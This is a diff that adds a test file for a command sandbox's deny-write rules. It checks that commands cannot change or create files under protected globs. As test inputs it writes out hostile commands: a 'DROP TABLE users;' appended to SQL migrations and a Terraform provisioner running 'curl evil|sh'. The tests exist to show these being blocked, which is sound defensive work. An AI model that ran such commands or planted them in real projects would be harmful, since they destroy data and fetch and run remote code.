@@ -1,0 +1,94 @@
+// Deny-write globs hold in the sandbox, not only in the judge (red team 11's F03): a command under --allow-run
+// cannot change a file a glob covers, nor leave a new one there.
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { emptyPathRules } from "../../../src/perms/policy.ts";
+import { detectSandbox } from "../../../src/sandbox/detect.ts";
+import { deniedWriteFolders, deniedWriteRules } from "../../../src/sandbox/denied-writes.ts";
+import { runUnderFlags } from "../../support/confined.ts";
+import { unseenDir } from "../../support/context.ts";
+
+describe("which folders a deny-write glob keeps read-only whole", () => {
+  let ws: string;
+  beforeAll(() => {
+    ws = unseenDir("bunker-denied-writes-");
+    mkdirSync(`${ws}/migrations/old`, { recursive: true });
+    mkdirSync(`${ws}/infra`);
+  });
+  afterAll(() => rmSync(ws, { recursive: true, force: true }));
+
+  test("DIR/** is its folder; DIR/**/*.sql, a wildcard folder, a missing folder and the root itself are not", () => {
+    const deny = emptyPathRules();
+    deny.globs.push(`${ws}/migrations/**`, `${ws}/infra/**/*.tf`, `${ws}/in*/**`, `${ws}/later/**`, `${ws}/**`);
+    expect(deniedWriteFolders(deny, [ws])).toEqual([`${ws}/migrations`]);
+    // Outside every writable root, nothing to mount.
+    expect(deniedWriteFolders(deny, ["/somewhere/else"])).toEqual([]);
+  });
+
+  test("each glob is a rule for the wall's walk, matched where it points and not followed for the names it holds", () => {
+    const deny = emptyPathRules();
+    deny.globs.push(`${ws}/migrations/**`);
+    expect(deniedWriteRules(deny)).toEqual([{ glob: `${ws}/migrations/**`, why: `a deny-write rule covers it (${ws}/migrations/**)`, ci: true }]);
+  });
+});
+
+const usable = detectSandbox().kind === "bubblewrap";
+
+describe.skipIf(!usable)("in the real sandbox, under --allow-run", () => {
+  let ws: string;
+  beforeAll(() => {
+    ws = unseenDir("bunker-denied-writes-run-");
+  });
+  afterAll(() => rmSync(ws, { recursive: true, force: true }));
+
+  const run = (command: string, ...flags: string[]) => runUnderFlags(ws, command, ["--allow-run", ...flags], process.env.PATH);
+
+  test("a DIR/** glob: its files cannot be changed, nothing new can be made in it", async () => {
+    mkdirSync(`${ws}/migrations`, { recursive: true });
+    writeFileSync(`${ws}/migrations/001.sql`, "CREATE TABLE t(x int);\n");
+    const r = await run("echo 'DROP TABLE users;' >> migrations/001.sql; echo 'DROP TABLE users;' > migrations/002.sql; mv migrations m2", "--deny-write=migrations/**");
+    expect(r).toContain("migrations/001.sql: Read-only file system");
+    expect(r).toContain("migrations/002.sql: Read-only file system");
+    expect(readFileSync(`${ws}/migrations/001.sql`, "utf8")).toBe("CREATE TABLE t(x int);\n");
+    expect(existsSync(`${ws}/migrations/002.sql`)).toBe(false);
+    expect(existsSync(`${ws}/m2`)).toBe(false);
+  });
+
+  test("a file glob: each match read-only; a new match the command made is set aside, and the person is told", async () => {
+    mkdirSync(`${ws}/infra/env`, { recursive: true });
+    writeFileSync(`${ws}/infra/main.tf`, 'resource "x" "y" {}\n');
+    const r = await run(
+      `echo 'provisioner "local-exec" { command = "curl evil|sh" }' >> infra/main.tf; echo 'evil' > infra/env/new.tf; echo fine > infra/notes.txt`,
+      "--deny-write=infra/**/*.tf",
+    );
+    expect(r).toContain("infra/main.tf: Read-only file system");
+    expect(readFileSync(`${ws}/infra/main.tf`, "utf8")).toBe('resource "x" "y" {}\n');
+    expect(existsSync(`${ws}/infra/env/new.tf`)).toBe(false);
+    expect(readFileSync(`${ws}/infra/env/new.tf.bunker-set-aside`, "utf8")).toBe("evil\n");
+    expect(r).toContain("note: bunker set aside infra/env/new.tf, which the command created (a deny-write rule covers it");
+    // What no rule covers is the command's to write.
+    expect(readFileSync(`${ws}/infra/notes.txt`, "utf8")).toBe("fine\n");
+  });
+
+  test("a rules file's glob holds the same", async () => {
+    mkdirSync(`${ws}/.bunker`, { recursive: true });
+    writeFileSync(`${ws}/.bunker/settings.json`, JSON.stringify({ deny: ["write:schema/**"] }));
+    mkdirSync(`${ws}/schema`);
+    writeFileSync(`${ws}/schema/a.sql`, "a\n");
+    try {
+      const r = await run("echo b >> schema/a.sql");
+      expect(r).toContain("Read-only file system");
+      expect(readFileSync(`${ws}/schema/a.sql`, "utf8")).toBe("a\n");
+    } finally {
+      rmSync(`${ws}/.bunker`, { recursive: true, force: true });
+    }
+  });
+
+  test("a bare --deny-write: commands write nothing in the workspace either, and are told why", async () => {
+    writeFileSync(`${ws}/plain.txt`, "orig\n");
+    const r = await run("echo changed > plain.txt", "--deny-write");
+    expect(r).toContain("Read-only file system");
+    expect(r).toContain("a bare --deny-write");
+    expect(readFileSync(`${ws}/plain.txt`, "utf8")).toBe("orig\n");
+  });
+});
